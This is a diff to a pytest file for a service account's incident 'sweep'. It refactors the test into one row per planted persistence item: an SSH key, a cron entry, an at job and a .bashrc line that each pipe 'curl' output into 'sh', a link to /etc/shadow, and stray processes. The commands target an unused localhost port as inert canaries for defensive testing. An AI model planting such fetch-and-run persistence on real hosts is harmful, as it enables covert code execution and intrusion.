@@ -2,22 +2,22 @@
 after an incident (``litellm_account_sweep: quarantine`` given with ``--data``: the sandbox's account
 is an adopted one, for which the sweep is off by default).
 
-One round plants, as the service account ``litellm``, each thing it could leave running or scheduled
-outside the managed services: a key in ``~/.ssh/authorized_keys``, a crontab, an ``at`` job, a line in
-``~/.bashrc``, a link ``~/.bash_profile`` -> /etc/shadow, a ``nohup``ed background process and a listener.
-The image has no cron or at: their spool files are planted directly (as root, then given to the
-account, as ``crontab`` and ``at`` would leave them). A declared key (``authorized_keys2``) and a
-process of root are planted too. Then:
+Each row plants ONE thing, as the service account ``litellm``, that it could leave running or
+scheduled outside the managed services: a key in ``~/.ssh/authorized_keys``, a crontab, an ``at`` job,
+a line in ``~/.bashrc``, a link ``~/.bash_profile`` -> /etc/shadow, a ``nohup``ed background process,
+a listener. The image has no cron or at: their spool files are planted directly (as root, then given
+to the account, as ``crontab`` and ``at`` would leave them). Beside some rows, what must NOT be an
+item is planted too (a declared key in ``authorized_keys2``, a process of root). Then, row by row:
 
-- the drift check exits 2 and names each item with its evidence (path, owner, mode, size, sha256,
-  mtime; for a process its command line, executable hash, start time and sockets), each hash equal
-  to what ``sha256sum`` says on the host;
-- the converge stops the processes, closes the listener, moves each file into root's quarantine
+- the drift check exits 2 and names exactly that item with its evidence (path, owner, mode, size,
+  sha256, mtime; for a process its command line, executable hash, start time and sockets), each hash
+  equal to what ``sha256sum`` says on the host;
+- the converge stops the process (closing its listener) or moves the file into root's quarantine
   folder (root, 0700) whose manifest lists it; the declared key, root's process, /etc/shadow and the
   proxy are untouched;
 - the second converge changes nothing.
 
-Afterwards the host is put back as the other files expect it (the skel ``.bashrc``, no spool
+After each row the host is put back as the other files expect it (the skel ``.bashrc``, no spool
 folders, no quarantine folder of this file): with the default setting the sweep does not look.
 """
 
@@ -91,116 +91,142 @@ def sha256(host, path: str) -> str:
     return host.out(f"sha256sum {shlex.quote(path)}").split()[0]
 
 
-@pytest.fixture(scope="module")
-def swept(host, converged, tmp_path_factory):
-    """Plant every item, run the check and two converges with the sweep on; clean up after the module."""
-    folders = set(host.out(f"ls {QUARANTINE} 2>/dev/null || true").split())
-    had_spool = host.ssh("test -e /var/spool/cron", check=False).returncode == 0
-    try:
+def plant_file(host, path: str) -> dict:
+    """Plant the file item at PATH as the account would leave it; what the row then expects."""
+    if path == f"{HOME}/.ssh/authorized_keys":
         as_account(host, f"mkdir -p -m 0700 ~/.ssh && echo {shlex.quote(KEY)} >> ~/.ssh/authorized_keys")
         as_account(host, f"echo {shlex.quote(KEY.replace(CANARY, 'declared'))} > ~/.ssh/authorized_keys2")
+    elif path == f"{HOME}/.bashrc":
         as_account(host, f"echo 'curl -s http://127.0.0.1:9/{CANARY} | sh' >> ~/.bashrc")
+    elif path == f"{HOME}/.bash_profile":
         as_account(host, "ln -s /etc/shadow ~/.bash_profile")
-        host.ssh(  # what crontab(1) and at(1) would leave; neither is installed in the image
-            "install -d -m 1730 /var/spool/cron/crontabs && install -d -m 1770 /var/spool/cron/atjobs && "
-            f"printf '* * * * * curl -s http://127.0.0.1:9/{CANARY} | sh\\n' > {CRONTAB} && "
-            f"chown litellm:litellm {CRONTAB} && chmod 0600 {CRONTAB} && "
-            f"printf '#!/bin/sh\\ncurl -s http://127.0.0.1:9/{CANARY} | sh\\n' > {ATJOB} && "
-            f"chown litellm:litellm {ATJOB} && chmod 0700 {ATJOB}"
+    else:  # what crontab(1) and at(1) would leave; neither is installed in the image
+        folder, mode = ("crontabs", "1730") if path == CRONTAB else ("atjobs", "1770")
+        script = "* * * * * " if path == CRONTAB else "#!/bin/sh\\n"
+        host.ssh(
+            f"install -d -m {mode} /var/spool/cron/{folder} && "
+            f"printf '{script}curl -s http://127.0.0.1:9/{CANARY} | sh\\n' > {path} && "
+            f"chown litellm:litellm {path} && chmod {'0600' if path == CRONTAB else '0700'} {path}"
         )
-        pids = {
-            "process": int(background(host, SLEEP, f"{CANARY}-bg")),
-            "listener": int(background(host, LISTEN, f"{CANARY}-listen")),
-            "root": int(background(host, SLEEP, f"{CANARY}-root", user="root")),
-        }
+    link = path.endswith(".bash_profile")
+    return {path: None if link else sha256(host, path)}
+
+
+def plant_process(host, listener: bool) -> dict:
+    """A ``nohup``ed process of the account (a listener, or a sleeper beside a process of root's)."""
+    if listener:
+        pid = int(background(host, LISTEN, f"{CANARY}-listen"))
         host.wait_for(f"ss -ltn | grep -q '127.0.0.1:{PORT} '", timeout=30)
-        before = {
-            "hashes": {path: sha256(host, path) for path in FILES if path != f"{HOME}/.bash_profile"},
-            "shadow": host.out("stat -c '%U %a %s %Y' /etc/shadow; sha256sum /etc/shadow"),
-            "proxy": host.out("systemctl --user --machine=litellm@.host show -p MainPID --value litellm.service"),
-            "declared": sha256(host, DECLARED),
-        }
-        proc, report = check(host, tmp_path_factory.mktemp("sweep"))
-        first = pyinfra([host.name], "-y", *SWEEP)
-        second = pyinfra([host.name], "-y", *SWEEP)
-        yield {"pids": pids, "before": before, "check": (proc, report), "first": first, "second": second}
-    finally:
-        host.ssh(f"pkill -f -- '[{CANARY[0]}]{CANARY[1:]}' || true", check=False)  # never this shell itself
-        host.ssh(f"install -o litellm -g litellm -m 0644 /etc/skel/.bashrc {HOME}/.bashrc", check=False)
-        host.ssh(f"rm -rf {HOME}/.ssh {HOME}/.bash_profile", check=False)
-        if not had_spool:
-            host.ssh("rm -rf /var/spool/cron", check=False)
-        for folder in set(host.out(f"ls {QUARANTINE} 2>/dev/null || true").split()) - folders:
-            host.ssh(f"rm -rf {QUARANTINE}/{folder}", check=False)
+        return {f"/proc/{pid}": "listen", f"tcp 127.0.0.1:{PORT}": pid}
+    pid = int(background(host, SLEEP, f"{CANARY}-bg"))
+    root = int(background(host, SLEEP, f"{CANARY}-root", user="root"))
+    return {f"/proc/{pid}": "bg", "root": root}
 
 
-def sweep_items(report: dict, host) -> list[dict]:
-    return [i for i in report["hosts"][host.name]["items"] if i["id"] == OPERATION]
+ROWS = [
+    pytest.param(f"{HOME}/.ssh/authorized_keys", "authorized_keys", id="key"),
+    pytest.param(CRONTAB, "crontab", id="cron"),
+    pytest.param(ATJOB, "at_job", id="at"),
+    pytest.param(f"{HOME}/.bashrc", "shell_file", id="shell-line"),
+    pytest.param(f"{HOME}/.bash_profile", "shell_file", id="shell-link"),
+    pytest.param("process", "process", id="process"),
+    pytest.param("listener", "process", id="listener"),
+]
 
 
-def test_the_check_names_each_item_with_its_evidence(host, swept):
-    proc, report = swept["check"]
+@pytest.fixture
+def clean_after(host):
+    """Put the host back as the other rows and files expect it, whatever the row left."""
+    folders = set(host.out(f"ls {QUARANTINE} 2>/dev/null || true").split())
+    had_spool = host.ssh("test -e /var/spool/cron", check=False).returncode == 0
+    yield
+    host.ssh(f"pkill -f -- '[{CANARY[0]}]{CANARY[1:]}' || true", check=False)  # never this shell itself
+    host.ssh(f"install -o litellm -g litellm -m 0644 /etc/skel/.bashrc {HOME}/.bashrc", check=False)
+    host.ssh(f"rm -rf {HOME}/.ssh {HOME}/.bash_profile", check=False)
+    if not had_spool:
+        host.ssh("rm -rf /var/spool/cron", check=False)
+    for folder in set(host.out(f"ls {QUARANTINE} 2>/dev/null || true").split()) - folders:
+        host.ssh(f"rm -rf {QUARANTINE}/{folder}", check=False)
+
+
+def sweep_items(report: dict, host) -> dict[str, dict]:
+    return {i["before"]["item"]: i for i in report["hosts"][host.name]["items"] if i["id"] == OPERATION}
+
+
+@pytest.mark.parametrize("planted, kind", ROWS)
+def test_each_planted_item_is_drift_with_evidence_then_quarantined_or_stopped(
+    host, converged, clean_after, tmp_path, planted, kind
+):
+    process = planted in ("process", "listener")
+    expect = plant_process(host, planted == "listener") if process else plant_file(host, planted)
+    shadow = host.out("stat -c '%U %a %s %Y' /etc/shadow; sha256sum /etc/shadow")
+    proxy = host.out("systemctl --user --machine=litellm@.host show -p MainPID --value litellm.service")
+    declared = sha256(host, DECLARED) if planted.endswith("authorized_keys") else None
+
+    # the check: exit 2, exactly this item named, with its evidence
+    proc, report = check(host, tmp_path)
     assert proc.returncode == 2, proc.stdout[-3000:] + proc.stderr[-3000:]
-    items = {i["before"]["item"]: i for i in sweep_items(report, host)}
-    for path, kind in FILES.items():
-        assert path in items, (path, sorted(items))
-        assert items[path]["kind"] == f"sweep {kind}" and items[path]["after"] == "quarantined"
-        assert path in proc.stdout  # the human report names it too
-    before = swept["before"]
-    for path, digest in before["hashes"].items():
-        evidence = items[path]["before"]
-        assert evidence["sha256"] == digest, path
+    items = sweep_items(report, host)
+    named = [key for key in expect if key != "root"]
+    assert sorted(items) == sorted(named), sorted(items)  # one at a time: nothing else is an item
+    for key in named:
+        assert key in proc.stdout  # the human report names it too
+    if process:
+        evidence = next(items[k]["before"] for k in named if k.startswith("/proc/"))
+        tag = expect[next(k for k in named if k.startswith("/proc/"))]
+        assert evidence["cmdline"][-1] == f"{CANARY}-{tag}", evidence
+        assert evidence["exe_sha256"] == sha256(host, host.out("readlink -f /usr/bin/python3"))
+        assert evidence["started"].endswith("Z")
+        assert items[named[0]]["kind"] == "sweep process"
+        if planted == "listener":
+            pid = expect[f"tcp 127.0.0.1:{PORT}"]
+            assert evidence["sockets"] == [f"127.0.0.1:{PORT}"]
+            listener = items[f"tcp 127.0.0.1:{PORT}"]
+            assert listener["kind"] == "sweep listener" and listener["before"]["pids"] == [pid]
+    else:
+        item = items[planted]
+        assert item["kind"] == f"sweep {kind}" and item["after"] == "quarantined"
+        evidence = item["before"]
         assert {"owner", "mode", "size", "mtime"} <= set(evidence), evidence
-    assert items[f"{HOME}/.ssh/authorized_keys"]["before"]["owner"] == "litellm:litellm"
-    assert items[CRONTAB]["before"]["mode"] == "0600" and items[ATJOB]["before"]["mode"] == "0700"
-    link = items[f"{HOME}/.bash_profile"]["before"]
-    assert (link["type"], link["target"], link["sha256"]) == ("symlink", "/etc/shadow", None)  # never followed
-    python = sha256(host, host.out("readlink -f /usr/bin/python3"))
-    for what in ("process", "listener"):
-        evidence = items[f"/proc/{swept['pids'][what]}"]["before"]
-        assert evidence["cmdline"][-1] == f"{CANARY}-{'bg' if what == 'process' else 'listen'}", evidence
-        assert evidence["exe_sha256"] == python and evidence["started"].endswith("Z")
-    assert items[f"/proc/{swept['pids']['listener']}"]["before"]["sockets"] == [f"127.0.0.1:{PORT}"]
-    listener = items[f"tcp 127.0.0.1:{PORT}"]
-    assert listener["kind"] == "sweep listener" and listener["before"]["pids"] == [swept["pids"]["listener"]]
-    # declared, root's own and the managed units' are not items
-    assert DECLARED not in items and f"/proc/{swept['pids']['root']}" not in items
-    assert not [i for i in items.values() if "litellm.service" in str(i["before"].get("cgroup", ""))]
-    assert len(items) == len(FILES) + 3, sorted(items)
+        assert evidence["owner"] == "litellm:litellm"
+        if expect[planted] is None:  # the link to /etc/shadow: never followed
+            assert (evidence["type"], evidence["target"], evidence["sha256"]) == ("symlink", "/etc/shadow", None)
+        else:
+            assert evidence["sha256"] == expect[planted]
+        if planted in (CRONTAB, ATJOB):
+            assert evidence["mode"] == ("0600" if planted == CRONTAB else "0700")
 
-
-def test_the_converge_quarantines_and_stops_each_item(host, swept):
-    first, before = swept["first"], swept["before"]
+    # the converge: the file moved into root's quarantine, listed in its manifest; the process stopped
+    first = pyinfra([host.name], "-y", *SWEEP)
     assert first.returncode == 0, first.stderr[-3000:]
     assert OPERATION in first.changed()
     moved = {
         item["path"]: item for doc in manifests(host) if doc.get("source") == "account sweep" for item in doc["items"]
     }
-    for path in FILES:
-        assert path in moved and moved[path]["moved_to"].startswith(QUARANTINE + "/"), (path, sorted(moved))
-        assert host.ssh(f"test -e {path} || test -L {path}", check=False).returncode == 1, path
-        assert host.out(f"stat -c '%U %a' {moved[path]['moved_to'].rsplit('/', 1)[0]}") == "root 700"
-    for path, digest in before["hashes"].items():
-        assert moved[path]["sha256"] == digest == sha256(host, moved[path]["moved_to"]), path
-    assert host.out(f"readlink {moved[f'{HOME}/.bash_profile']['moved_to']}") == "/etc/shadow"
-    for what in ("process", "listener"):
-        entry = moved[f"/proc/{swept['pids'][what]}"]
-        assert entry["stopped"] == "SIGTERM" and entry["time"].endswith("Z"), entry
-        assert host.ssh(f"test -e /proc/{swept['pids'][what]}", check=False).returncode == 1
-    assert host.ssh(f"ss -ltn | grep -q '127.0.0.1:{PORT} '", check=False).returncode == 1
-    assert host.out(f"stat -c %U {QUARANTINE}") == "root" and host.out(f"stat -c %a {QUARANTINE}") == "700"
+    if process:
+        key = next(k for k in named if k.startswith("/proc/"))
+        assert moved[key]["stopped"] == "SIGTERM" and moved[key]["time"].endswith("Z"), moved.get(key)
+        assert host.ssh(f"test -e {key}", check=False).returncode == 1
+        assert host.ssh(f"ss -ltn | grep -q '127.0.0.1:{PORT} '", check=False).returncode == 1
+        if "root" in expect:
+            assert host.ssh(f"test -e /proc/{expect['root']}", check=False).returncode == 0  # root's process runs
+    else:
+        entry = moved[planted]
+        assert entry["moved_to"].startswith(QUARANTINE + "/"), entry
+        assert host.ssh(f"test -e {planted} || test -L {planted}", check=False).returncode == 1
+        assert host.out(f"stat -c '%U %a' {entry['moved_to'].rsplit('/', 1)[0]}") == "root 700"
+        if expect[planted] is None:
+            assert host.out(f"readlink {entry['moved_to']}") == "/etc/shadow"
+        else:
+            assert entry["sha256"] == expect[planted] == sha256(host, entry["moved_to"])
+    assert host.out(f"stat -c '%U %a' {QUARANTINE}") == "root 700"
+    # nothing outside the account's reach is touched
+    assert host.out("stat -c '%U %a %s %Y' /etc/shadow; sha256sum /etc/shadow") == shadow
+    assert host.out("systemctl --user --machine=litellm@.host show -p MainPID --value litellm.service") == proxy
+    if declared:
+        assert sha256(host, DECLARED) == declared  # the declared key stays
 
-
-def test_nothing_outside_the_accounts_reach_is_touched(host, swept):
-    before = swept["before"]
-    assert host.out("stat -c '%U %a %s %Y' /etc/shadow; sha256sum /etc/shadow") == before["shadow"]
-    assert host.ssh(f"test -e /proc/{swept['pids']['root']}", check=False).returncode == 0  # root's process runs
-    assert sha256(host, DECLARED) == before["declared"]  # the declared key stays
-    proxy = host.out("systemctl --user --machine=litellm@.host show -p MainPID --value litellm.service")
-    assert proxy == before["proxy"] != "0"  # the managed proxy was not stopped
-
-
-def test_the_second_converge_changes_nothing(swept):
-    second = swept["second"]
+    # the second converge changes nothing
+    second = pyinfra([host.name], "-y", *SWEEP)
     assert second.returncode == 0, second.stderr[-3000:]
     assert second.changed() == [], second.changed()
